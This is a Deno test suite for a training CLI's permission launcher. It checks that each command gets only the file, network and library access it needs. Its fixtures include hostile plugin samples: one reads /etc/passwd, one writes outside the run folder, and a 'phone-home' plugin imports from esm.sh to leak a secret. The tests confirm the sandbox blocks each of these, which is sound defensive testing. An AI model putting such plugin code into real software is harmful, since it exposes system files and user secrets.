import assert from "node:assert/strict";
import { idxBytes } from "../train/data/_idx_fixture.ts";
import { FASHION_MNIST_DIR } from "../train/data/mnist.ts";
import { COMMAND_FLAGS } from "./_args.ts";
import { commandPermissions, denoFlags } from "./_permissions.ts";

const ROOT = new URL("..", import.meta.url).pathname.replace(/\/$/, "");
const canRun = Deno.permissions.querySync({ name: "run", command: Deno.execPath() }).state === "granted";

const XOR = {
  name: "xor-run",
  data: { name: "xor" },
  model: [{ name: "dense", units: 3 }, { name: "tanh" }, { name: "dense", units: 1 }],
  loss: "mse",
  optimizer: "sgd",
  epochs: 2,
  batching: "full",
};

async function withExperiment<T>(json: unknown, fn: (path: string, dir: string) => Promise<T>): Promise<T> {
  const dir = await Deno.makeTempDir({ prefix: "gradflow_launch_" });
  try {
    await Deno.writeTextFile(`${dir}/e.json`, JSON.stringify(json));
    return await fn(`${dir}/e.json`, dir);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test("commandPermissions() gives train the data set's folder, the run folder and the plugin hosts, no more", async () => {
  await withExperiment({
    ...XOR,
    data: { name: "fashion-mnist", limit: 10 },
    plugins: ["https://plugins.example.org:8443/lion.ts", { url: "./local/focal.ts", sha256: "0".repeat(64) }],
  }, async (path, dir) => {
    const p = await commandPermissions(["train", path, "--plugin", "http://127.0.0.1:9/x.ts#sha256=ab", "--quiet"]);
    assert.deepEqual(p.read, [".", path, FASHION_MNIST_DIR, "runs/xor-run", `${dir}/local`]);
    assert.deepEqual(p.write, ["runs/xor-run"]);
    assert.deepEqual(p.importHosts, ["127.0.0.1:9", "plugins.example.org:8443"]);
    assert.equal(p.ffi, null);
    assert.deepEqual(p.env, ["CI", "TERM"]);
  });
});

Deno.test("commandPermissions() follows --out, --set, --resume, a CSV path, a data dir and --backend blas", async () => {
  await withExperiment({ ...XOR, data: { name: "csv", path: "/data/points.csv" }, backend: "blas" }, async (path) => {
    const p = await commandPermissions(["train", path, "--out", "/tmp/elsewhere/", "--resume"]);
    assert.deepEqual(p.read, [".", path, "/data/points.csv", "/tmp/elsewhere"]);
    assert.deepEqual(p.write, ["/tmp/elsewhere"]);
    assert.ok(p.ffi !== null && p.ffi.length > 0 && p.ffi.every((f) => f.startsWith("/")), String(p.ffi));
    const set = await commandPermissions(["train", path, "--set", 'data={"name":"mnist","dir":"/srv/mnist"}']);
    assert.deepEqual(set.read, [".", path, "/srv/mnist", "runs/xor-run"]);
    assert.equal(set.ffi !== null, true, "the file's backend still applies");
    const flag = await commandPermissions(["train", path, "--backend", "js"]);
    assert.equal(flag.ffi, null, "--backend js overrides the file's blas");
  });
});

Deno.test("commandPermissions() reads every value flag of train as its command does, so the permissions stay", async () => {
  // A value flag the launcher did not know (--threads once) left its value among the positionals: the data set's
  // folder was then not readable.
  const values: Record<string, string> = {
    optimizer: "adam",
    "learning-rate": "0.01",
    loss: "mse",
    epochs: "3",
    "batch-size": "2",
    batching: "full",
    seed: "1",
    backend: "wasm",
    dtype: "float64",
    threads: "1",
    set: "epochs=3",
    out: "runs/xor-run",
    plugin: "/opt/plugins/lion.ts",
  };
  await withExperiment({ ...XOR, data: { name: "csv", path: "/data/points.csv" } }, async (path) => {
    const plain = await commandPermissions(["train", path]);
    for (const [flag, spec] of Object.entries(COMMAND_FLAGS.train)) {
      if (spec.type !== "string") continue;
      assert.ok(flag in values, `the test gives --${flag} a value`);
      const p = await commandPermissions(["train", `--${flag}`, values[flag], path]);
      assert.ok(p.read.includes("/data/points.csv"), `--${flag} ${values[flag]}: ${p.read}`);
      assert.deepEqual(p.write, plain.write, `--${flag}`);
    }
  });
});

Deno.test("commandPermissions() writes nothing for list, gradcheck and help, and the compare or plot folder for those", async () => {
  for (const args of [["list", "optimizer"], ["gradcheck", "loss", "mse"], ["--help"], ["--version"], []]) {
    const p = await commandPermissions(args);
    assert.deepEqual(p.write, [], args.join(" "));
    assert.deepEqual(p.read, ["."]);
  }
  const plugin = await commandPermissions(["list", "--plugin", "/opt/plugins/lion.ts"]);
  assert.deepEqual(plugin.read, [".", "/opt/plugins"]);
  await withExperiment(XOR, async (path) => {
    const compare = await commandPermissions(["compare", path, "--optimizers", "sgd,adam"]);
    assert.deepEqual(compare.write, ["runs/xor-run-compare"]);
  });
  const plot = await commandPermissions(["plot", "runs/a", "/tmp/b", "--out", "/tmp/charts"]);
  assert.deepEqual(plot.read, [".", "runs/a", "/tmp/b", "/tmp/charts"]);
  assert.deepEqual(plot.write, ["/tmp/charts"]);
});

Deno.test("commandPermissions() gives evaluate and predict their run, its plugins and their data; summary reads only", async () => {
  await withExperiment({ ...XOR, plugins: ["https://plugins.example.org/lion.ts"] }, async (path, dir) => {
    await Deno.mkdir(`${dir}/run`);
    await Deno.rename(path, `${dir}/run/experiment.json`);
    await Deno.writeTextFile(`${dir}/data.json`, JSON.stringify({ name: "mnist", dir: "digits" }));
    const evaluate = await commandPermissions(["evaluate", `${dir}/run/`, `${dir}/data.json`, "--heatmap", "cm.svg"]);
    assert.deepEqual(evaluate.read, [".", `${dir}/run`, `${dir}/data.json`, `${dir}/digits`, "cm.svg"]);
    assert.deepEqual(evaluate.write, ["cm.svg"]);
    assert.deepEqual(evaluate.importHosts, ["plugins.example.org"]);
    const predict = await commandPermissions(["predict", `${dir}/run`, '{"name":"fashion-mnist"}', "--out", "p.csv"]);
    assert.deepEqual(predict.read, [".", `${dir}/run`, FASHION_MNIST_DIR, "p.csv"]);
    assert.deepEqual(predict.write, ["p.csv"]);
    const csv = await commandPermissions(["predict", `${dir}/run`, "/data/new.csv"]);
    assert.deepEqual(csv.read, [".", `${dir}/run`, "/data/new.csv"]);
    assert.deepEqual(csv.write, []);
    const summary = await commandPermissions(["summary", `${dir}/run/experiment.json`]);
    assert.deepEqual(summary.write, []);
    assert.deepEqual(summary.importHosts, ["plugins.example.org"]);
  });
});

Deno.test("commandPermissions() gives a command line it cannot read the least, for main.ts to report", async () => {
  for (
    const args of [["train", "/nonexistent/e.json"], ["train", "a.json", "b.json"], [
      "train",
      "e.json",
      "--epochs",
      "x",
    ]]
  ) {
    const p = await commandPermissions(args);
    assert.deepEqual(p.write, [], args.join(" "));
    assert.deepEqual(p.importHosts, []);
  }
  await withExperiment([1, 2, 3], async (path) => {
    assert.deepEqual((await commandPermissions(["train", path])).write, []);
  });
});

Deno.test("denoFlags() never prompts, and without a plugin host denies every remote import", () => {
  const flags = denoFlags({ read: ["."], write: [], importHosts: [], ffi: null, env: ["CI", "TERM"] });
  assert.deepEqual(flags.slice(0, 2), ["--no-prompt", "--allow-read=."]);
  assert.match(flags[2], /^--deny-import=deno\.land:443,jsr\.io:443,esm\.sh:443,/);
  assert.deepEqual(flags.slice(3), ["--allow-env=CI,TERM"]);
  const hosts = denoFlags({ read: ["a,b"], write: ["w"], importHosts: ["h:1", "k"], ffi: ["/lib.so"], env: [] });
  assert.deepEqual(hosts, [
    "--no-prompt",
    "--allow-read=a,,b",
    "--allow-write=w",
    "--allow-import=h:1,k",
    "--allow-ffi=/lib.so",
  ]);
});

/**
 * Runs `deno task gradflow …` as a user does, from the repository root. On a terminal (`script`), standard input
 * stays open and silent, as a user who does not answer: a prompt waits, and after `timeout` ms the run is killed.
 */
async function task(args: string[], options: { terminal?: boolean; timeout?: number } = {}) {
  const quoted = [Deno.execPath(), "task", "gradflow", ...args].map((a) => `'${a.replaceAll("'", "'\\''")}'`).join(" ");
  const child = new Deno.Command(options.terminal ? "script" : Deno.execPath(), {
    args: options.terminal ? ["-qec", quoted, "/dev/null"] : ["task", "gradflow", ...args],
    cwd: ROOT,
    env: { NO_COLOR: "1" },
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    child.kill("SIGKILL");
  }, options.timeout ?? 120_000);
  const out = await child.output();
  clearTimeout(timer);
  const decode = (b: Uint8Array) => new TextDecoder().decode(b);
  // Without deno task's own "Task gradflow …" line.
  // deno-lint-ignore no-control-regex
  const echo = /^(\x1b\[[0-9;]*m)*Task(\x1b\[[0-9;]*m)* .*\r?\n/;
  return {
    code: out.code,
    timedOut,
    stdout: decode(out.stdout).replace(echo, ""),
    stderr: decode(out.stderr).replace(echo, ""),
  };
}

const hasScript = await new Deno.Command("script", { args: ["-qec", "true", "/dev/null"] }).output()
  .then((o) => o.success, () => false);

Deno.test({
  name: "deno task gradflow never prompts: on a terminal a plugin's request for a file fails at once",
  ignore: !canRun || !hasScript,
  async fn() {
    await withExperiment(XOR, async (path, dir) => {
      await Deno.writeTextFile(
        `${dir}/nosy.ts`,
        `Deno.readTextFileSync("/etc/passwd");\nexport default { apiVersion: 1, kind: "scheduler", name: "nosy", create: () => () => 0.1 };\n`,
      );
      // On a terminal Deno would ask "Allow?" and wait for an answer that never comes; the task must fail at once.
      const run = await task(["train", path, "--quiet", "--out", `${dir}/run`, "--plugin", `${dir}/nosy.ts`], {
        terminal: true,
        timeout: 30_000,
      });
      assert.equal(run.timedOut, false, `the task waited for an answer:\n${run.stdout}`);
      const text = run.stdout + run.stderr;
      assert.equal(run.code, 2, text);
      assert.doesNotMatch(text, /Allow\?|Granted|\[y\/n/i);
      assert.match(text, /NotCapable: Requires read access to "\/etc\/passwd"/);
    });
  },
});

Deno.test({
  name: "deno task gradflow reads the data folder the experiment names and writes only the run folder",
  ignore: !canRun,
  async fn() {
    await withExperiment(XOR, async (_path, dir) => {
      // A tiny MNIST-format set in a folder outside the repository.
      await Deno.mkdir(`${dir}/mnist`);
      const images = (n: number) => idxBytes([n, 2, 2], Array.from({ length: 4 * n }, (_, i) => (i * 37) % 256));
      await Deno.writeFile(`${dir}/mnist/train-images-idx3-ubyte`, images(6));
      await Deno.writeFile(`${dir}/mnist/train-labels-idx1-ubyte`, idxBytes([6], [0, 1, 2, 0, 1, 2]));
      await Deno.writeFile(`${dir}/mnist/t10k-images-idx3-ubyte`, images(3));
      await Deno.writeFile(`${dir}/mnist/t10k-labels-idx1-ubyte`, idxBytes([3], [2, 1, 0]));
      const experiment = {
        ...XOR,
        data: { name: "mnist", dir: `${dir}/mnist` },
        model: [{ name: "dense", units: 10 }],
        loss: "softmax-cross-entropy",
      };
      await Deno.writeTextFile(`${dir}/mnist.json`, JSON.stringify(experiment));
      const run = await task(["train", `${dir}/mnist.json`, "--quiet", "--out", `${dir}/run`]);
      assert.equal(run.code, 0, run.stderr);
      assert.ok((await Deno.stat(`${dir}/run/checkpoint/checkpoint.json`)).isFile);
      // A plugin may not write outside the run folder, nor read the experiment's neighbours beyond what was named.
      await Deno.writeTextFile(
        `${dir}/writer.ts`,
        `export default { apiVersion: 1, kind: "scheduler", name: "writer", create: () => {
  Deno.writeTextFileSync(${JSON.stringify(`${dir}/outside.txt`)}, "x");
  return () => 0.1;
} };\n`,
      );
      const writer = await task([
        ...["train", `${dir}/mnist.json`, "--quiet", "--out", `${dir}/run2`, "--plugin", `${dir}/writer.ts`],
        ...["--set", 'scheduler="writer"'],
      ]);
      assert.equal(writer.code, 2, writer.stderr);
      assert.match(writer.stderr, /as its create tried to write ".*outside\.txt", which this run does not permit/);
      await assert.rejects(Deno.stat(`${dir}/outside.txt`), Deno.errors.NotFound);
    });
  },
});

Deno.test({
  name: "deno task gradflow lets a plugin import from its own host only, not from Deno's default hosts",
  ignore: !canRun || Deno.permissions.querySync({ name: "net", host: "127.0.0.1" }).state !== "granted",
  async fn() {
    const stop = new AbortController();
    let port = 0;
    const source = `export default { apiVersion: 1, kind: "scheduler", name: "phone-home", create: () => {
  import("https://esm.sh/leak?data=" + "secret");
  return () => 0.1;
} };\n`;
    const server = Deno.serve(
      { hostname: "127.0.0.1", port: 0, signal: stop.signal, onListen: (a) => port = a.port },
      () => new Response(source, { headers: { "content-type": "application/typescript" } }),
    );
    try {
      while (port === 0) await new Promise((r) => setTimeout(r, 5));
      await withExperiment(XOR, async (path, dir) => {
        const run = await task([
          ...["train", path, "--quiet", "--out", `${dir}/run`, "--plugin", `http://127.0.0.1:${port}/phone_home.ts`],
          ...["--set", 'scheduler="phone-home"', "--epochs", "1"],
        ]);
        assert.equal(run.code, 1, run.stderr);
        // (Deno's "Download <url>" line comes first.)
        assert.match(
          run.stderr,
          /^error: Cannot use scheduler "phone-home" \(from http:\/\/127\.0\.0\.1:\d+\/phone_home\.ts\) as code it left running tried to import from "esm\.sh:443"/m,
        );
      });
    } finally {
      stop.abort();
      await server.finished;
    }
  },
});

Deno.test({
  name: "deno task gradflow gives --backend blas the OpenBLAS library and trains",
  ignore: !canRun || !(await Deno.stat("/usr/lib/x86_64-linux-gnu/libopenblas.so.0").then(() => true, () => false)),
  async fn() {
    await withExperiment(XOR, async (path, dir) => {
      const run = await task(["train", path, "--quiet", "--out", `${dir}/run`, "--backend", "blas"]);
      assert.equal(run.code, 0, run.stderr);
    });
  },
});
